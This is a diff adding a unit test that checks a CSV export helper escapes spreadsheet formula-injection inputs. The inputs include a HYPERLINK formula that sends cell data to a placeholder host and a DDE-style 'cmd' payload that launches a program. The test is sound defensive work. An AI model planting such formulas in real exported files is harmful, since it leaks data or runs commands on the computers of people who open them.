@@ -192,6 +192,23 @@ describe('trends and CSV', () => {
     );
     expect(csv).toBe('name,Median TTFT (s)\r\n"a, ""b""",0.5\r\nplain,2\r\n');
   });
+
+  it('turns a stored text a spreadsheet would run as a formula into text; numbers stay numbers', () => {
+    const csv = toCsv(
+      [
+        { header: 'image', value: (r: { n: string; v: number }) => r.n },
+        { header: 'delta', value: (r) => r.v },
+      ],
+      ['=HYPERLINK("http://x/?"&A1)', "+cmd|'/C calc'!A0", '-2+3', '@SUM(A1)', '\t=1'].map((n) => ({ n, v: -0.5 })),
+    );
+    expect(csv.split('\r\n').slice(1, -1)).toEqual([
+      `"'=HYPERLINK(""http://x/?""&A1)",-0.5`,
+      `'+cmd|'/C calc'!A0,-0.5`,
+      `'-2+3,-0.5`,
+      `'@SUM(A1),-0.5`,
+      `'\t=1,-0.5`,
+    ]);
+  });
 });
 
 describe('series colours', () => {
